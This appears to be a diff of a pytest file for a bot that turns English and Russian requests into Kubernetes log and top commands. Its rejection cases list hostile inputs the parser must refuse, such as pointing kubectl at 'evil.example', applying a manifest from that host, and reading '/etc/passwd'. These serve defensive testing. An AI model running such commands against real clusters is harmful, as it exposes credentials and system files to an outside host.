@@ -68,7 +68,16 @@ def test_a_command_is_read_however_it_is_written(text, command):
         ("logs of pod x", "kubernetes.logs"),
         ("show me the logs of pod api-7d9 in checkout for the last 2 hours", "kubernetes.logs"),
         ("покажи логи пода api-1 в checkout за 2 часа", "kubernetes.logs"),
+        ("logs of the api deployment in shop", "kubernetes.logs"),
+        ("покажи последние 20 строк логов деплоймента api в shop", "kubernetes.logs"),
+        ("/do logs api-7d9 in shop", "kubernetes.logs"),
+        ("/do логи api-7d9 в shop за 5 минут", "kubernetes.logs"),
         ("top pods in shop", "kubernetes.top_pods"),
+        ("top pods in all namespaces", "kubernetes.top_cluster"),
+        ("покажи расход ресурсов подами во всех неймспейсах", "kubernetes.top_cluster"),
+        ("kubectl top po -A --sort-by=memory", "kubernetes.top_cluster"),
+        ("kubectl top pod api-7d9 -n shop --containers", "kubernetes.top_pods"),
+        ("kubectl top node node-1", "kubernetes.top_nodes"),
         ("kubectl top nodes", "kubernetes.top_nodes"),
         ("show events in shop", "kubernetes.get"),
         ("kubectl events --for pod/api-1", "kubernetes.events"),
@@ -101,6 +110,25 @@ def test_each_action_can_be_asked_for(text, action):
 
 
 @pytest.mark.parametrize(
+    ("text", "told"),
+    [
+        ("kubectl logs api-7d9 -n shop --tail 20 -p", {"name": "api-7d9", "tail": 20, "previous": "true"}),
+        ("kubectl logs api-7d9 proxy -n shop", {"name": "api-7d9", "container": "proxy"}),
+        ("kubectl logs po/api-7d9 -n shop", {"name": "api-7d9"}),
+        (
+            "kubectl -n shop logs deploy/api -c app",
+            {"resource": "deployment", "name": "api", "container": "app"},
+        ),
+        ("logs of the api statefulset in shop", {"resource": "statefulset", "name": "api"}),
+        ("покажи логи деплоймента api в shop", {"resource": "deployment", "name": "api"}),
+    ],
+)
+def test_whose_log_is_meant_is_read_as_kubectl_does(text, told):
+    usual = {"namespace": "shop", "resource": "pod", "tail": 100}
+    assert read_command(text) == ("kubernetes.logs", usual | told)
+
+
+@pytest.mark.parametrize(
     "text",
     [
         "",
@@ -128,6 +156,8 @@ def test_each_action_can_be_asked_for(text, action):
         "не перезапускай деплоймент api",
         "kubectl get pods hangs and then fails, what can I do?",
         "kubectl describe returns forbidden",
+        "kubectl logs returns nothing",
+        "kubectl top pods hangs",
         "kubectl get pods?",
         "promql up",
         "/document",
@@ -160,7 +190,14 @@ def test_a_question_is_no_command(text):
         ("kubectl get pods --server=https://evil.example", "--server"),
         ("kubectl get pods --raw /api", "--raw"),
         ("kubectl get pods -n a -n kube-system", "twice"),
-        ("kubectl logs -f api-1", "-f"),
+        (
+            "kubectl logs -f api-1",
+            "-f` isn't an option of `kubectl logs` here; these are: -n, --namespace, -c",
+        ),
+        ("kubectl logs cronjob/api", "cronjob"),
+        ("kubectl logs a-1 b c", "kubectl logs a-1 b c"),
+        ("kubectl top nodes -A", "-A"),
+        ("kubectl top pods api -A", "name"),
         ("kubectl apply -f @/etc/passwd", "@/etc/passwd"),
         ("kubectl apply -f https://evil.example/x.yaml", "https://evil.example/x.yaml"),
         ("kubectl apply", "manifest"),
